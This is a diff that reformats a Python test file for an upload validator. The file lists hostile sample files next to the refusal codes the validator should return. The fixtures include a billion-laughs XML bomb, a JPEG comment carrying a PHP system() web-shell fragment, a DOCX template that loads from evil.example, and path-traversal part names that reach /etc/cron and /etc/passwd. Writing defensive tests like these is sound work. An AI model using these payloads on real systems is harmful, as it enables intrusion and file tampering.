@@ -7,10 +7,10 @@ import zlib
 from collections.abc import Callable
 
 from tests.formats.papers import (
+    _XML,
     MINIMAL,
     TYPES,
     WORDS,
-    _XML,
     archive,
     bomb,
     docx,
@@ -30,7 +30,9 @@ from tests.formats.papers import (
 
 _EXTERNAL = 'Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"'
 _LAUGHS = (
-    '<!DOCTYPE a [<!ENTITY a "ha">' + "".join(f'<!ENTITY {b} "&{a};&{a};&{a};">' for a, b in ("ab", "bc")) + "]><a>&c;</a>"
+    '<!DOCTYPE a [<!ENTITY a "ha">'
+    + "".join(f'<!ENTITY {b} "&{a};&{a};&{a};">' for a, b in ("ab", "bc"))
+    + "]><a>&c;</a>"
 )
 
 #: What happens -> the name it is sent under, its bytes, the code of the refusal.
@@ -44,7 +46,11 @@ ATTACKS: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "a PNG called PDF": ("surat.pdf", lambda: picture("PNG"), "paper_mislabelled"),
     "a PDF called PNG": ("foto.png", pdf, "paper_mislabelled"),
     "a PDF behind a page": ("surat.pdf", lambda: b"<html>" + pdf(), "paper_two_in_one"),
-    "a PDF that begins with a page": ("surat.pdf", lambda: pdf().replace(b"%\xe2\xe3", b"%<html>", 1), "paper_two_in_one"),
+    "a PDF that begins with a page": (
+        "surat.pdf",
+        lambda: pdf().replace(b"%\xe2\xe3", b"%<html>", 1),
+        "paper_two_in_one",
+    ),
     "a PDF and an archive": ("surat.pdf", lambda: pdf() + archive({"a": "b"}), "paper_two_in_one"),
     "a PDF and something behind": ("surat.pdf", lambda: pdf() + b"rm -rf", "paper_two_in_one"),
     "half a PDF": ("surat.pdf", lambda: pdf()[:-40], "paper_damaged"),
@@ -92,12 +98,21 @@ ATTACKS: dict[str, tuple[str, Callable[[], bytes], str]] = {
     ),
     "a JPEG and an archive": ("foto.jpg", lambda: picture("JPEG") + archive({"a": "b"}), "paper_two_in_one"),
     "a JPEG and a page": ("foto.jpg", lambda: picture("JPEG") + b"<html>", "paper_two_in_one"),
-    "a JPEG with PHP in its comment": ("foto.jpg", lambda: jpeg_saying(0xFE, b"<?php system('id');"), "paper_two_in_one"),
+    "a JPEG with PHP in its comment": (
+        "foto.jpg",
+        lambda: jpeg_saying(0xFE, b"<?php system('id');"),
+        "paper_two_in_one",
+    ),
     "a JPEG that is a PHAR": ("foto.jpg", lambda: jpeg_saying(0xFE, b"__HALT_COMPILER(); ?>"), "paper_two_in_one"),
     "a JPEG with an archive inside": (
         "foto.jpg",
-        lambda: picture("JPEG")[:-2] + b"\xff\xfe" + struct.pack(">H", 2 + len(archive({"a": "b"}))) + archive({"a": "b"})
-        + b"\xff\xd9",
+        lambda: (
+            picture("JPEG")[:-2]
+            + b"\xff\xfe"
+            + struct.pack(">H", 2 + len(archive({"a": "b"})))
+            + archive({"a": "b"})
+            + b"\xff\xd9"
+        ),
         "paper_two_in_one",
     ),
     "a JPEG that is a script": (
@@ -147,8 +162,12 @@ ATTACKS: dict[str, tuple[str, Callable[[], bytes], str]] = {
         lambda: docx(**{"word___rels__settings.xml.rels": relations(_EXTERNAL)}),
         "docx_loads_from_elsewhere",
     ),
-    "a DOCX whose part leads out": ("berkas.docx", lambda: docx(**{"word__..__..__..__etc__cron": "x"}), "docx_unsafe_part"),
-    "a DOCX with an absolute part": ("berkas.docx", lambda: docx(**{"__etc__passwd": "x"}), "docx_unsafe_part"),
+    "a DOCX whose part leads out": (
+        "berkas.docx",
+        lambda: docx(**{"word__..__..__..__etc__cron": "x"}),
+        "docx_unsafe_part",
+    ),
+    "a DOCX with an absolute part": ("berkas.docx", lambda: docx(__etc__passwd="x"), "docx_unsafe_part"),
     "a DOCX with an archive inside": ("berkas.docx", lambda: docx(word__a=archive({"b": "c"})), "docx_things_inside"),
     "a DOCX with a program inside": (
         "berkas.docx",
